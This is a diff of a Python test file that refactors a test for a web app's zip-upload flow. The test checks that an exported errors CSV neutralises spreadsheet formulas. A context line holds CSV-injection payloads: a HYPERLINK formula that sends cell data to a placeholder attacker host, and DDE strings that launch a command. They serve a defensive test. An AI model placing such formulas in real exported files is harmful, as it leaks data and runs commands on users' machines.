@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import zipfile
 from pathlib import Path
 
 import openpyxl
@@ -16,7 +15,7 @@ from sqlalchemy import select, update
 
 from helpers import base_tables, write_bundle
 from models import Person, Position, db
-from web_helpers import login, token
+from web_helpers import login, upload_zip, zip_folder
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -59,14 +58,8 @@ def test_the_import_errors_csv_of_the_web_runs_nothing(app, client, web, people,
     login(client, "auditor_fj")
     folder = tmp_path / "bad"
     bad_bundle(people, folder)
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as zf:
-        for f in sorted(folder.iterdir()):
-            zf.write(f, f"bad/{f.name}")
-    resp = client.post("/uploads/", content_type="multipart/form-data",
-                       data={"files": (io.BytesIO(buf.getvalue()), "bundle.zip"),
-                             "csrf_token": token(client, "/uploads/")})
-    job = int(re.search(r"/uploads/(\d+)$", resp.headers["Location"]).group(1))
+    data = zip_folder(folder)
+    job = upload_zip(client, data, "bundle.zip")
     from audit.uploads import jobs
 
     jobs.wait(job)
